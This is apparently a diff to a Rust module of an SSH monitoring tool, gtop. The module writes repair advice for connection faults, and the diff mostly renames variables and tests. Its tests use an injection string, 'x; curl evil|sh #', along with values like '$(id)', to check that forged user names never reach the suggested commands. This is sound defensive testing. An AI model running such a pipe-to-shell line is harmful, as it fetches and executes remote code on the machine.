@@ -155,8 +155,8 @@ impl Advice {
             _ => (name, None),
         };
         let host = host.trim_start_matches('[').trim_end_matches(']');
-        let place = ssh_destination(user, host, port);
-        Self { host: host.to_owned(), destination: place, ..Self::for_name(gateway) }
+        let destination = ssh_destination(user, host, port);
+        Self { host: host.to_owned(), destination, ..Self::for_name(gateway) }
     }
 
     /// Records an option in effect, and the file and line that set it.
@@ -179,9 +179,9 @@ impl Advice {
 
     /// Returns the login user if it is safe in a command. The configured user is reliable; the one in an
     /// error may have been forged by a node. Without a user the command would be about root, who runs it.
-    fn user<'a>(&'a self, of_fault: &'a str) -> Option<&'a str> {
+    fn user<'a>(&'a self, user_of_fault: &'a str) -> Option<&'a str> {
         let configured = self.value("User");
-        let user = if configured.is_empty() { of_fault } else { configured };
+        let user = if configured.is_empty() { user_of_fault } else { configured };
         is_safe_user(user).then_some(user)
     }
 
@@ -227,23 +227,23 @@ impl Advice {
 
     /// Returns what to ask of the administrator if the key cannot be installed by logging in.
     fn add_key(&self, key: &str, user: &str) -> String {
-        let place = match self.user(user) {
+        let location = match self.user(user) {
             Some(user) => format!("~{user}/.ssh/authorized_keys"),
             None => "the authorized_keys of your account".to_owned(),
         };
-        format!("ask the administrator to add {key} to {place} on {}", self.host)
+        format!("ask the administrator to add {key} to {location} on {}", self.host)
     }
 
     /// Returns how to create a key and install it, by password login or by the administrator.
     fn new_key(&self, user: &str, offers: &[String]) -> String {
-        let make = "ssh-keygen -t ed25519";
+        let keygen = "ssh-keygen -t ed25519";
         if offers_login_without_key(offers) {
             return format!(
-                "create a key and install it on the node: {make} && {}",
+                "create a key and install it on the node: {keygen} && {}",
                 self.copy_id()
             );
         }
-        format!("{}, after creating it with: {make}", self.add_key("~/.ssh/id_ed25519.pub", user))
+        format!("{}, after creating it with: {keygen}", self.add_key("~/.ssh/id_ed25519.pub", user))
     }
 
     /// Returns the public key of the first configured file that was tried. Other entries of `tried` are free
@@ -265,37 +265,38 @@ impl Advice {
     /// Returns what to do about a refused key; the reason is only in the log of sshd.
     fn authorize_key(&self, user: &str, offers: &[String], tried: &[String]) -> String {
         let key = self.public_key(tried);
-        let give = if offers_login_without_key(offers) {
+        let install = if offers_login_without_key(offers) {
             format!("install your key on the node: {}", self.copy_id())
         } else {
             self.add_key(key.as_ref().map_or("your public key", |key| &key.file), user)
         };
-        let mut remedy = format!("{give}\nor {}", self.correct_option("User"));
-        let accept = key.and_then(|key| key.kind).map(|kind| {
+        let mut remedy = format!("{install}\nor {}", self.correct_option("User"));
+        let accept_algorithm = key.and_then(|key| key.kind).map(|kind| {
             let kind = signature_algorithm(&kind);
             self.as_root(&format!(
                 "add {kind} to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: {RELOAD_SSHD}"
             ))
         });
         // Run as the user, because the user's folder may contain links to anywhere.
-        let open = self.user(user).map(|user| {
+        let fix_modes = self.user(user).map(|user| {
             self.as_root(&format!(
                 "runuser -u {user} -- chmod go-w ~{user} ~{user}/.ssh ~{user}/.ssh/authorized_keys"
             ))
         });
-        for (says, what) in [
-            ("not in PubkeyAcceptedAlgorithms", accept),
-            ("bad ownership or modes", open),
+        for (logged, action) in [
+            ("not in PubkeyAcceptedAlgorithms", accept_algorithm),
+            ("bad ownership or modes", fix_modes),
             ("because shell", self.set_shell(user)),
         ] {
-            remedy.extend(what.map(|what| format!("\nif its sshd logs \"{says}\", {what}")));
+            remedy
+                .extend(action.map(|action| format!("\nif its sshd logs \"{logged}\", {action}")));
         }
         remedy
     }
 
     #[expect(clippy::too_many_lines, reason = "a line or two for each fault")]
     pub(super) fn for_transport_fault(&self, fault: &Fault) -> String {
-        let Self { node, destination: place, .. } = self;
+        let Self { node, destination, .. } = self;
         match fault {
             Fault::NameNotFound { host, .. } => {
                 let name = host.as_deref().unwrap_or(&self.host);
@@ -438,7 +439,7 @@ impl Advice {
                 format!("run it by hand, and {}", self.correct_option("ProxyCommand"))
             }
             Fault::SshProgram { .. } | Fault::ConnectionLost { .. } | Fault::SessionLost { .. } => {
-                format!("try by hand: ssh -v {place} true")
+                format!("try by hand: ssh -v {destination} true")
             }
             Fault::AccountRefused { user, says } if says.contains(ACCOUNT_EXPIRED) => {
                 match self.user(user) {
@@ -460,7 +461,7 @@ impl Advice {
                     .to_owned()
             }
             Fault::BadConfiguration { .. } => {
-                format!("correct it, then check it with: ssh -G {place}")
+                format!("correct it, then check it with: ssh -G {destination}")
             }
             Fault::SlurmStep { cause, .. } => cause.remedy().to_owned(),
             Fault::ProgramNotFound { program, .. } => {
@@ -513,12 +514,14 @@ impl Advice {
 
     /// Returns how to open a master connection, which gtop then shares.
     fn open_master(&self) -> String {
-        let place = &self.destination;
+        let destination = &self.destination;
         if self.value("ControlPath").is_empty() {
-            return self
-                .ssh_config(&format!(", then run ssh -fNM {place}"), &["ControlPath ~/.ssh/%C"]);
+            return self.ssh_config(
+                &format!(", then run ssh -fNM {destination}"),
+                &["ControlPath ~/.ssh/%C"],
+            );
         }
-        format!("open a master connection: ssh -fNM {place}")
+        format!("open a master connection: ssh -fNM {destination}")
     }
 
     fn address(&self) -> Cow<'_, str> {
@@ -532,32 +535,32 @@ impl Advice {
     }
 
     pub(super) fn for_node_fault(&self, fault: &model::Fault, has_noise: bool) -> String {
-        let Self { node, destination: place, .. } = self;
+        let Self { node, destination, .. } = self;
         match fault.kind {
             // An expired account or password is the cause, whatever else the login files print.
             FaultKind::NoInterpreter if fault.detail.contains(NO_SHELL) => {
-                let asked = || "ask the administrator for a login shell on the node".to_owned();
-                self.set_shell("").unwrap_or_else(asked)
+                let ask = || "ask the administrator for a login shell on the node".to_owned();
+                self.set_shell("").unwrap_or_else(ask)
             }
             FaultKind::NoInterpreter if fault.detail.contains(PASSWORD_EXPIRED) => {
-                format!("log in and set a new password: ssh -t {place}")
+                format!("log in and set a new password: ssh -t {destination}")
             }
             FaultKind::NoInterpreter | FaultKind::TimedOut if !fault.node_remedy.is_empty() => {
-                fault.remedy().replace("HOST", place)
+                fault.remedy().replace("HOST", destination)
             }
             FaultKind::NoInterpreter if has_noise => format!(
                 "another program runs instead of gtop's command: a login file that exits or starts a program \
                  (~/.bashrc, ~/.profile: restrict that to interactive shells), or a forced command; \
-                 try: ssh {place} /bin/sh -c true"
+                 try: ssh {destination} /bin/sh -c true"
             ),
             FaultKind::NoInterpreter => {
-                let given = self
+                let set_shell = self
                     .set_shell("")
                     .map(|what| format!("\nif the login shell is /bin/false, {what}"));
                 format!(
                     "the login shell must run /bin/sh; look for exit or exec in ~/.bashrc and for a forced \
-                     command, and try: ssh {place} /bin/sh -c true{}",
-                    given.unwrap_or_default()
+                     command, and try: ssh {destination} /bin/sh -c true{}",
+                    set_shell.unwrap_or_default()
                 )
             }
             FaultKind::HostKeyUnknown => fault.kind.remedy().replace("HOST", &shell_quoted(node)),
@@ -579,7 +582,7 @@ impl Advice {
             | FaultKind::NoJob
             | FaultKind::NoBanner
             | FaultKind::AccountRefused
-            | FaultKind::SessionLost) => kind.remedy().replace("HOST", place),
+            | FaultKind::SessionLost) => kind.remedy().replace("HOST", destination),
         }
     }
 }
@@ -594,7 +597,7 @@ mod tests {
     const HOSTILE: &str = "x; curl evil|sh #";
 
     fn advice(
-        typed: &str,
+        node: &str,
         user: Option<&str>,
         port: Option<u16>,
         configured: Option<&str>,
@@ -605,7 +608,7 @@ mod tests {
             port,
             profile: Profile::System,
         };
-        let target = Target { name: NodeName::new(typed).unwrap(), reach: Reach::Ssh(ssh) };
+        let target = Target { name: NodeName::new(node).unwrap(), reach: Reach::Ssh(ssh) };
         let mut advice = Advice::for_target(&target);
         if let Some(user) = configured {
             advice.set_option("User", &[user.to_owned()], None);
@@ -623,22 +626,23 @@ mod tests {
     }
 
     #[test]
-    fn no_command_is_about_the_account_of_who_types_it() {
+    fn commands_never_apply_to_the_account_of_the_administrator() {
         let faults = |user: &str| {
             let says = "Your account has expired".to_owned();
             [refused(user, &["id"]), Fault::AccountRefused { user: user.to_owned(), says }]
         };
-        let named = advice("gpu11", None, None, None);
-        let known = advice("gpu11", None, None, Some("ada"));
-        for nobody in ["", HOSTILE, "-a", "ada bob", "$(id)", "~", "a/../b", "a:b", "1"] {
-            for fault in faults(nobody) {
+        let without_user = advice("gpu11", None, None, None);
+        let with_user = advice("gpu11", None, None, Some("ada"));
+        for unsafe_user in ["", HOSTILE, "-a", "ada bob", "$(id)", "~", "a/../b", "a:b", "1"] {
+            for fault in faults(unsafe_user) {
                 let at_gateway = Fault::AtGateway {
                     gateway: "bastion".to_owned(),
                     fault: Box::new(fault.clone()),
                 };
-                for text in
-                    [named.for_transport_fault(&fault), known.for_transport_fault(&at_gateway)]
-                {
+                for text in [
+                    without_user.for_transport_fault(&fault),
+                    with_user.for_transport_fault(&at_gateway),
+                ] {
                     for word in
                         ["as root", "~/.ssh/authorized_keys", "usermod", "go-w", "chage", "curl"]
                     {
@@ -651,22 +655,22 @@ mod tests {
         for fault in faults("ada") {
             let at_gateway =
                 Fault::AtGateway { gateway: "bastion".to_owned(), fault: Box::new(fault.clone()) };
-            let text = named.for_transport_fault(&at_gateway);
+            let text = without_user.for_transport_fault(&at_gateway);
             assert!(text.contains("as root on bastion: ") && text.contains(" ada"), "{text}");
         }
-        let text = known.for_transport_fault(&refused("eve", &["id"]));
+        let text = with_user.for_transport_fault(&refused("eve", &["id"]));
         assert!(text.contains("usermod -s /bin/sh ada") && !text.contains("eve"), "{text}");
         let open = "runuser -u ada -- chmod go-w ~ada ~ada/.ssh ~ada/.ssh/authorized_keys";
         assert!(text.contains(&format!("\", as root on gpu11: {open}")), "{text}");
         let fault = model::Fault::new(FaultKind::NoInterpreter, NO_SHELL);
-        assert!(!named.for_node_fault(&fault, false).contains("usermod"));
-        assert!(known.for_node_fault(&fault, false).ends_with(": usermod -s /bin/sh ada"));
+        assert!(!without_user.for_node_fault(&fault, false).contains("usermod"));
+        assert!(with_user.for_node_fault(&fault, false).ends_with(": usermod -s /bin/sh ada"));
         let fault = model::Fault::new(FaultKind::NoInterpreter, "");
-        assert!(!named.for_node_fault(&fault, false).contains("usermod"));
+        assert!(!without_user.for_node_fault(&fault, false).contains("usermod"));
     }
 
     #[test]
-    fn nothing_but_a_configured_file_is_named_as_a_key() {
+    fn only_a_configured_file_is_named_as_the_key() {
         let folder = tempfile::tempdir().unwrap();
         let file = |name: &str| folder.path().join(name).display().to_string();
         std::fs::write(file("id.pub"), "ssh-rsa AAAA ada\n").unwrap();
@@ -678,11 +682,11 @@ mod tests {
         let add = |key: &str| {
             format!("ask the administrator to add {key} to ~ada/.ssh/authorized_keys on gpu11\n")
         };
-        let said = format!("until the node said: {HOSTILE}");
+        let forged = format!("until the node said: {HOSTILE}");
         for tried in [
             "the keys of the ssh program",
             "agent SHA256:abc",
-            &said,
+            &forged,
             &format!("{} certificate 'x', expired", file("id")),
             &format!("not {} (encrypted)", file("id")),
             &file("other"),
@@ -713,7 +717,7 @@ mod tests {
     }
 
     #[test]
-    fn a_kind_of_key_that_is_left_out_is_not_let_in_with_sha1() {
+    fn an_excluded_key_algorithm_is_never_allowed_with_sha1() {
         let flaw = KeyFileProblem::AlgorithmExcluded("ssh-rsa".to_owned());
         let fault = Fault::KeyUnusable { file: "/k".into(), flaw, offers: Vec::new() };
         let text = advice("gpu11", None, None, None).for_transport_fault(&fault);
@@ -721,49 +725,49 @@ mod tests {
     }
 
     #[test]
-    fn each_program_gets_the_node_in_its_own_words() {
-        let typed = advice("ada@gpu11:2222", Some("ada"), Some(2222), Some("ada"));
-        let none = || "x".to_owned();
+    fn each_program_gets_the_node_in_its_own_syntax() {
+        let advice = advice("ada@gpu11:2222", Some("ada"), Some(2222), Some("ada"));
+        let text = || "x".to_owned();
         for (fault, expected) in [
-            (Fault::JobRequired { says: none() }, "salloc -w gpu11\n"),
-            (Fault::SessionLost { why: none() }, "ssh -v -p 2222 ada@gpu11 true"),
-            (Fault::PasswordOnly { user: none() }, "ssh-copy-id -p 2222 ada@gpu11\n"),
-            (Fault::PasswordOnly { user: none() }, "    Host gpu11\n"),
+            (Fault::JobRequired { says: text() }, "salloc -w gpu11\n"),
+            (Fault::SessionLost { why: text() }, "ssh -v -p 2222 ada@gpu11 true"),
+            (Fault::PasswordOnly { user: text() }, "ssh-copy-id -p 2222 ada@gpu11\n"),
+            (Fault::PasswordOnly { user: text() }, "    Host gpu11\n"),
             (
-                Fault::ChannelRefused { why: none() },
+                Fault::ChannelRefused { why: text() },
                 "as root on gpu11: add at the top of /etc/ssh/sshd_config, outside any Match block, then run systemctl reload sshd || systemctl reload ssh:\n",
             ),
             (
                 Fault::ConnectionRefused { port: 22 },
                 "as root on gpu11: systemctl start sshd || systemctl start ssh\n",
             ),
-            (Fault::NeedsSshProgram { options: none() }, "gtop --transport ssh ada@gpu11:2222"),
+            (Fault::NeedsSshProgram { options: text() }, "gtop --transport ssh ada@gpu11:2222"),
             (
-                Fault::GatewayCannotReach { gateway: "eve@bastion:2200".to_owned(), why: none() },
+                Fault::GatewayCannotReach { gateway: "eve@bastion:2200".to_owned(), why: text() },
                 "ssh -p 2200 eve@bastion nc -zv gpu11 22",
             ),
             (
                 Fault::GatewayForwardingRefused {
                     gateway: "ssh://eve@[fe80::1]:2200".to_owned(),
-                    why: none(),
+                    why: text(),
                 },
                 "as root on fe80::1: ",
             ),
         ] {
-            let text = typed.for_transport_fault(&fault);
+            let text = advice.for_transport_fault(&fault);
             assert!(text.contains(expected), "{expected} in {text}");
         }
         for (kind, expected) in [
             (FaultKind::HostKeyUnknown, "gtop trust ada@gpu11:2222"),
             (FaultKind::BadReply, "ssh -p 2222 ada@gpu11 true"),
         ] {
-            let text = typed.for_node_fault(&model::Fault::new(kind, ""), false);
+            let text = advice.for_node_fault(&model::Fault::new(kind, ""), false);
             assert!(text.ends_with(expected), "{expected} in {text}");
         }
     }
 
     #[test]
-    fn what_a_shell_could_take_for_more_is_quoted() {
+    fn words_with_shell_metacharacters_are_quoted() {
         for (word, expected) in [
             ("/home/ada/.ssh/id_ed25519", "/home/ada/.ssh/id_ed25519"),
             ("/k/my key", "'/k/my key'"),
@@ -805,7 +809,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_no_command_stands_behind_no_colon() {
+    fn only_a_command_follows_a_colon() {
         let advice = advice("gpu11", None, None, None);
         let closed = Fault::NotSsh { port: 22, why: String::new(), is_closed: true };
         let after = std::time::Duration::from_secs(1);
